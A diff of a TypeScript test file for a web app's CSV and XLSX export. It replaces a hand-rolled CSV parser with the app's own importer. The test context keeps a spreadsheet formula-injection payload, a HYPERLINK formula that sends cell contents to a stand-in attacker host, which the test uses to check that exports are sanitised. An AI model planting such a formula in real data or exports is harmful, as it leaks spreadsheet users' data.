@@ -7,6 +7,7 @@ import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { bearer, createUser, login, startTestApp, type TestContext } from "./harness.js";
 import { PROJECTS, insertProject } from "./search-fixture.js";
 import { inDays, insertTender } from "./tender-fixture.js";
+import { parseCsv as readCsvText } from "../../server/ingest/importers/csv.js";
 
 const HYPERLINK = ' =HYPERLINK("http://evil.example/?leak="&A1,"Click")';
 /** Cell text as an attacker would store it → what the export must carry. */
@@ -48,25 +49,8 @@ afterAll(() => t?.close());
 const exportOf = (path: string, format: "csv" | "xlsx") =>
   t.app.inject({ method: "GET", url: `/api/${path}?format=${format}&filter=state:Mizoram`, headers: bearer(token) });
 
-/** RFC 4180 (quoted fields, doubled quotes, CRLF records) → rows of fields. */
-function parseCsv(text: string): string[][] {
-  const rows: string[][] = [];
-  let row: string[] = [];
-  let field = "";
-  let quoted = false;
-  for (let i = 0; i < text.length; i++) {
-    const ch = text[i];
-    if (quoted) {
-      if (ch === '"' && text[i + 1] === '"') (field += '"'), i++;
-      else if (ch === '"') quoted = false;
-      else field += ch;
-    } else if (ch === '"') quoted = true;
-    else if (ch === ",") row.push(field), (field = "");
-    else if (ch === "\r" && text[i + 1] === "\n") row.push(field), rows.push(row), (row = []), (field = ""), i++;
-    else field += ch;
-  }
-  return rows;
-}
+/** RFC 4180 → rows of fields, read by the importers' own CSV reader. */
+const parseCsv = (text: string): string[][] => readCsvText(text).map((r) => r.fields);
 
 async function csvRecords(path: string): Promise<Record<string, string>[]> {
   const res = await exportOf(path, "csv");
